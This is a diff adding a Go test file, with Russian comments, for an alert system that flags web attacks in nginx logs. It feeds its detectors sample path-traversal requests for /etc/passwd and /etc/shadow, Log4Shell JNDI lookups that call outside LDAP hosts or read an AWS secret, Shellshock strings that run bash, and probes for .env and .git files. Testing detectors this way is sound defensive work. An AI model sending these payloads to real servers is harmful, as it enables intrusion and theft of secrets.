@@ -0,0 +1,114 @@
+package rules
+
+import (
+	"alertsystem/parser"
+	"testing"
+	"time"
+)
+
+func TestWebAttackDetectors(t *testing.T) {
+	tests := []struct {
+		name    string
+		detect  detector
+		log     parser.NginxLog
+		details string // пустое - признак не найден
+	}{
+		// Обход каталогов
+		{"traversal in path", detectTraversal, parser.NginxLog{Path: "/static/../../etc/passwd"}, "../"},
+		{"traversal in query", detectTraversal, parser.NginxLog{Path: "/download", Query: "file=..%2F..%2Fapp.db"}, "../"},
+		{"double-encoded traversal", detectTraversal, parser.NginxLog{Path: "/download", Query: "file=%252e%252e%252fsecret"}, "../"},
+		{"encoded backslash", detectTraversal, parser.NginxLog{Path: "/files/..%5cwindows"}, "..\\"},
+		{"system file", detectTraversal, parser.NginxLog{Path: "/view", Query: "page=/ETC/SHADOW"}, "/etc/shadow"},
+		{"proc self", detectTraversal, parser.NginxLog{Path: "/view", Query: "page=/proc/self/environ"}, "/proc/self/"},
+		{"dots without slash", detectTraversal, parser.NginxLog{Path: "/docs/v1..v2/diff", Query: "range=1..5"}, ""},
+		{"passwd in name", detectTraversal, parser.NginxLog{Path: "/account/passwd-reset"}, ""},
+
+		// Log4Shell
+		{"jndi in user agent", detectLog4Shell, parser.NginxLog{Path: "/", UserAgent: "${jndi:ldap://198.51.100.1/a}"}, "user_agent: ${jndi:"},
+		{"jndi upper case", detectLog4Shell, parser.NginxLog{Path: "/", Referer: "${JNDI:dns://x}"}, "referer: ${jndi:"},
+		{"jndi url-encoded in query", detectLog4Shell, parser.NginxLog{Path: "/search", Query: "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"}, "query: ${jndi:"},
+		{"jndi in forwarded for", detectLog4Shell, parser.NginxLog{Path: "/", ForwardedFor: "${jndi:rmi://x/a}"}, "x_forwarded_for: ${jndi:"},
+		{"nested lookup", detectLog4Shell, parser.NginxLog{Path: "/", UserAgent: "${${lower:j}ndi:ldap://x}"}, "user_agent: ${${"},
+		{"lookup in body", detectLog4Shell, parser.NginxLog{Path: "/login", RequestBody: "username=${env:AWS_SECRET}"}, "request_body: ${env:"},
+		{"template placeholder", detectLog4Shell, parser.NginxLog{Path: "/search", Query: "q=${price}"}, ""},
+		{"dollar without brace", detectLog4Shell, parser.NginxLog{Path: "/", UserAgent: "jndi $lower"}, ""},
+
+		// Shellshock
+		{"function in user agent", detectShellshock, parser.NginxLog{Path: "/cgi-bin/status", UserAgent: "() { :; }; /bin/bash -c id"}, "user_agent"},
+		{"function in referer without spaces", detectShellshock, parser.NginxLog{Path: "/", Referer: "(){ :;};echo"}, "referer"},
+		{"url-encoded function", detectShellshock, parser.NginxLog{Path: "/", Query: "x=%28%29%20%7B%20%3A%3B%20%7D"}, "query"},
+		{"parentheses without body", detectShellshock, parser.NginxLog{Path: "/wiki/Foo_()", UserAgent: "Mozilla/5.0 (X11; Linux x86_64)"}, ""},
+		{"brace after argument", detectShellshock, parser.NginxLog{Path: "/", RequestBody: "f(x) { return x }"}, ""},
+
+		// Чувствительные пути
+		{"dotenv", detectSensitivePath, parser.NginxLog{Path: "/.env"}, "/.env"},
+		{"git config", detectSensitivePath, parser.NginxLog{Path: "/app/.git/config"}, "/.git/"},
+		{"case-insensitive", detectSensitivePath, parser.NginxLog{Path: "/PhpMyAdmin/index.php"}, "/phpmyadmin"},
+		{"encoded path", detectSensitivePath, parser.NginxLog{Path: "/%2ehtpasswd"}, "/.htpasswd"},
+		{"similar path", detectSensitivePath, parser.NginxLog{Path: "/api/config"}, ""},
+		{"github link", detectSensitivePath, parser.NginxLog{Path: "/github/repo"}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			details, ok := tt.detect(tt.log)
+			if ok != (tt.details != "") || details != tt.details {
+				t.Errorf("detect() = %q, %v, want %q", details, ok, tt.details)
+			}
+		})
+	}
+}
+
+func TestDecode(t *testing.T) {
+	tests := []struct {
+		value, want string
+	}{
+		{"%2e%2e%2f", "../"},
+		{"%252e%252e%252f", "../"},
+		// Декодируется не больше двух раз
+		{"%25252e", "%2e"},
+		// Некорректное кодирование оставляется как есть
+		{"100%", "100%"},
+		{"a+b", "a b"},
+	}
+	for _, tt := range tests {
+		if got := decode(tt.value); got != tt.want {
+			t.Errorf("decode(%q) = %q, want %q", tt.value, got, tt.want)
+		}
+	}
+}
+
+func TestWebAttackRuleCooldown(t *testing.T) {
+	rule := NewWebAttackRule("path_traversal", Config{Severity: SeverityHigh}.withDefaults(webAttackDefaults), detectTraversal)
+	attack := func(remoteAddr string) parser.NginxLog {
+		return parser.NginxLog{RemoteAddr: remoteAddr, Method: "GET", Path: "/../../etc/passwd"}
+	}
+
+	alerts := rule.Check(attack("203.0.113.10"), testNow)
+	if len(alerts) != 1 {
+		t.Fatalf("got %d alerts, want 1", len(alerts))
+	}
+	alert := alerts[0]
+	if alert.Type != "path_traversal" || alert.Severity != SeverityHigh || alert.Action != "get" ||
+		alert.RequestPath != "/../../etc/passwd" || alert.Details != "../" {
+		t.Errorf("unexpected alert %+v", alert)
+	}
+
+	steps := []struct {
+		at        time.Duration
+		entry     parser.LogEntry
+		wantAlert bool
+	}{
+		{time.Minute, attack("203.0.113.10"), false},
+		{time.Minute, attack("198.51.100.1"), true},
+		{2 * time.Minute, parser.NginxLog{RemoteAddr: "192.0.2.1", Path: "/index.html"}, false},
+		// Записи приложения не содержат параметров запроса
+		{2 * time.Minute, parser.WebServiceLog{RemoteAddr: "192.0.2.1"}, false},
+		{5*time.Minute + time.Second, attack("203.0.113.10"), true},
+	}
+	for i, s := range steps {
+		alerts := rule.Check(s.entry, testNow.Add(s.at))
+		if (len(alerts) == 1) != s.wantAlert || len(alerts) > 1 {
+			t.Errorf("step %d: alerts = %+v, want alert %v", i, alerts, s.wantAlert)
+		}
+	}
+}